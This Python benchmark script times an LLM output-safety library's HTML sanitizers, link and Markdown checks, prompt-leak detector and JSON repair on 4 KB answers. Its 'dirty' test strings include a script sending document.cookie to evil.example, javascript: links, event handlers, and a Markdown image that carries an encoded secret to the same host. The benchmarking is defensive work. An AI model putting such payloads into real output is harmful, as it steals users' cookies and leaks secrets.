"""Timings for the output checks on a 4 KB answer: HTML sanitizing (bleach and nh3 side by side),
links and Markdown, canary and prompt leak, dangerous commands, structured output.

Run: python benchmarks/bench_output.py

Every figure is the median (and best) of 7 runs, in microseconds per call, on answers built here:
a formatted HTML answer, the same answer as Markdown, and "dirty" variants carrying script tags,
event handlers and exfiltration images. ``GUARDKIT_BENCH_SMOKE=1`` runs every case once, untimed.
"""

from __future__ import annotations

import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))
sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from _timing import SMOKE, environment, per_call_ns

from guardkit._structured import extract_json, parse_model, repair_json
from guardkit.sanitizers._html import SanitizeHtml
from guardkit.sanitizers._markdown import SafeMarkdown
from guardkit.validators._commands import ShellCommands, SqlStatements
from guardkit.validators._leaks import Canary, PromptLeak
from guardkit.validators._links import Links

SIZE = 4096

HTML_UNIT = (
    "<h2>Step {i}: configure the client</h2>\n"
    "<p>Install the package and read the <a href=\"https://docs.python.org/3/library/json.html\">"
    "json docs</a> before you <strong>start</strong>. Use <code>pip install -U example</code>.</p>\n"
    "<ul>\n<li>First, create a <em>virtual environment</em>.</li>\n<li>Then set the API key.</li>\n"
    "</ul>\n<pre><code class=\"language-python\">client = Client(timeout=30)\nclient.run()\n"
    "</code></pre>\n<table>\n<thead><tr><th>Option</th><th>Default</th></tr></thead>\n"
    "<tbody><tr><td>timeout</td><td>30</td></tr></tbody>\n</table>\n"
)
HTML_DIRTY = (
    "<p onclick=\"steal()\">Click <a href=\"javascript:alert(1)\">here</a></p>"
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
    "<img src=x onerror=alert(1)><iframe src=\"https://evil.example/\"></iframe>\n"
)
MD_UNIT = (
    "## Step {i}: configure the client\n\n"
    "Install the package and read the [json docs](https://docs.python.org/3/library/json.html) "
    "before you **start**. Use `pip install -U example`.\n\n"
    "- First, create a *virtual environment*.\n- Then set the API key, see https://example.com/keys.\n\n"
    "```python\nclient = Client(timeout=30)\nclient.run()\n```\n\n"
    "| Option | Default |\n|---|---|\n| timeout | 30 |\n\n"
)
MD_DIRTY = (
    "![chart](https://evil.example/c.png?d=c2VjcmV0LWFwaS1rZXktMTIzNDU2Nzg5MA) "
    "[click](javascript:alert(1)) <img src=\"https://evil.example/p.png\">\n\n"
)
SYSTEM_PROMPT = (
    "You are Aria, the billing assistant of Example Corp. Never discuss refunds above 500 dollars "
    "without a manager's approval code. Always answer in English and keep replies under 120 words. "
    "If a user asks about the internal escalation matrix, say you cannot share it."
)


def sized(unit: str, extra: str = "") -> str:
    """Whole copies of *unit* (numbered) up to about SIZE characters, *extra* in the middle."""
    parts: list[str] = []
    i = 1
    while sum(map(len, parts)) + len(unit) <= SIZE:
        parts.append(unit.format(i=i))
        i += 1
    if extra:
        parts.insert(len(parts) // 2, extra)
    return "".join(parts)


def row(label: str, fn: Callable[[], Any]) -> str:
    median, best = per_call_ns(fn)
    return f"| {label} | {median / 1000:.1f} | {best / 1000:.1f} |"


def main() -> None:
    print(f"_{environment()}_\n")
    html_clean, html_dirty = sized(HTML_UNIT), sized(HTML_UNIT, HTML_DIRTY)
    md_clean, md_dirty = sized(MD_UNIT), sized(MD_UNIT, MD_DIRTY)
    sanitizers = {name: SanitizeHtml(backend=name) for name in ("nh3", "bleach")}
    assert sanitizers["nh3"].clean(html_clean) is html_clean
    assert sanitizers["bleach"].clean(html_clean) is html_clean

    print(f"## SanitizeHtml on a {SIZE // 1024} KB answer (µs per call; target < 1000)\n")
    print("| input | nh3 median | nh3 best | bleach median | bleach best | bleach / nh3 |")
    print("|---|---:|---:|---:|---:|---:|")
    for label, text in (
        ("HTML, clean (returned unchanged)", html_clean),
        ("HTML, with script, handlers, iframe", html_dirty),
        ("Markdown with a few tags", md_dirty),
    ):
        fast = per_call_ns(lambda s=sanitizers["nh3"], t=text: s.clean(t))
        slow = per_call_ns(lambda s=sanitizers["bleach"], t=text: s.clean(t))
        ratio = slow[0] / fast[0] if fast[0] else 0.0
        print(
            f"| {label} | {fast[0] / 1000:.1f} | {fast[1] / 1000:.1f} | {slow[0] / 1000:.1f} | "
            f"{slow[1] / 1000:.1f} | {ratio:.0f}x |"
        )

    allow = ["docs.python.org", "example.com"]
    links = Links(allow_domains=allow)
    markdown = SafeMarkdown(allow_domains=allow, images="allow-listed")
    canary = Canary()
    leak = PromptLeak(SYSTEM_PROMPT)
    shell, sql = ShellCommands(), SqlStatements()
    print(f"\n## validators and SafeMarkdown on a {SIZE // 1024} KB Markdown answer (µs per call)\n")
    print("| check | median | best |")
    print("|---|---:|---:|")
    print(row("Links.check, clean", lambda: links.check(md_clean)))
    print(row("Links.check, with exfiltration", lambda: links.check(md_dirty)))
    print(row("SafeMarkdown.clean, clean (unchanged)", lambda: markdown.clean(md_clean)))
    print(row("SafeMarkdown.clean, with exfiltration", lambda: markdown.clean(md_dirty)))
    print(row("Canary.check", lambda: canary.check(md_clean)))
    print(row("Canary() construction", Canary))
    print(row("PromptLeak.check", lambda: leak.check(md_clean)))
    print(row("ShellCommands.check", lambda: shell.check(md_clean)))
    print(row("SqlStatements.check", lambda: sql.check(md_clean)))

    reply = (
        "Sure! Here is the record you asked for:\n\n```json\n"
        '{"name": "Ada Lovelace", "age": 36, "tags": ["math", "engines"]}\n```\n'
    )
    broken = "Here it is: {'name': 'Ada Lovelace', age: 36, 'tags': ['math', 'engines',],}"
    from pydantic import BaseModel

    class User(BaseModel):
        name: str
        age: int
        tags: list[str]

    print("\n## structured output on a short reply (µs per call)\n")
    print("| step | median | best |")
    print("|---|---:|---:|")
    print(row("extract_json (fenced)", lambda: extract_json(reply)))
    print(row("repair_json (quotes, keys, commas)", lambda: repair_json(extract_json(broken))))
    print(row("parse_model (valid)", lambda: parse_model(User, reply)))
    print(row("parse_model (needs repair)", lambda: parse_model(User, broken)))
    if SMOKE:
        print("\n(smoke mode: untimed)")


if __name__ == "__main__":
    main()
